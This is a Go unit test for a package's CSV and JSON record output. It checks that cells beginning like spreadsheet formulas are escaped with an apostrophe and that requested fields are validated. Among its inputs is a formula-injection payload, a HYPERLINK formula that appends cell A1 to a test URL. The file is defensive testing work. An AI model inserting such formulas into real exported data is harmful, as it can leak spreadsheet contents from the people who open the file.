package record

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVFormulas: no cell of CSV begins as a formula does in a spreadsheet; without the apostrophe
// in front, each is what the Web said. JSON lines are as they are.
func TestCSVFormulas(t *testing.T) {
	titles := []string{
		"=HYPERLINK(\"http://a.test/?\"&A1)", "+1", "-2+3", "- Home -", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\x00=1", "＝1", "＠x",
		"'tis", "'=1", "''", "Home", "a=1", "", "Ü", "\xff=1",
	}
	s := NewStream(Form{Format: FormatCSV}, false)
	for _, title := range titles {
		r := Record{URL: "http://a.test/?=-@", Title: title, ContentType: "=x", Robots: []string{"-x", "y"}, ErrorKind: KindRefused, Error: "@user"}
		s.Add(&r, nil)
		if line := string(r.Line()); !strings.Contains(line, `"content_type":"=x"`) {
			t.Errorf("JSON %s", line)
		}
	}
	written := s.Take()
	if !bytes.Contains(written, []byte("\nhttp://a.test/?=-@,")) {
		t.Errorf("a URL is not as it is: %s", written)
	}
	rows, err := csv.NewReader(bytes.NewReader(written)).ReadAll()
	if err != nil || len(rows) != len(titles) {
		t.Fatalf("%d rows: %v", len(rows), err)
	}
	for i, row := range rows {
		for column, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n\x00＝＋－＠", []rune(cell)[0]) {
				t.Errorf("row %d: %s is %q", i, csvHeader[column], cell)
			}
			row[column] = strings.TrimPrefix(cell, "'")
		}
		if want := titles[i]; row[14] != want || row[7] != "=x" || row[3] != "@user" || row[16] != "-x, y" {
			t.Errorf("row %d: %q, expected the title %q", i, row, want)
		}
	}
}

// TestCSVFields: the columns that are asked for, in their order.
func TestCSVFields(t *testing.T) {
	fields := []string{"title", "url", "status"}
	if err := CheckFields(fields); err != nil {
		t.Fatal(err)
	}
	s := NewStream(Form{FormatCSV, fields}, true)
	s.Add(&Record{URL: "http://a.test/", Title: "=1"}, nil)
	if got, want := string(s.Take()), "title,url,status\n'=1,http://a.test/,\n"; got != want {
		t.Errorf("%q, expected %q", got, want)
	}
	for _, wrong := range [][]string{{"ulr"}, {"url", "url"}, {""}} {
		if err := CheckFields(wrong); err == nil {
			t.Errorf("%q: no error", wrong)
		}
	}
}
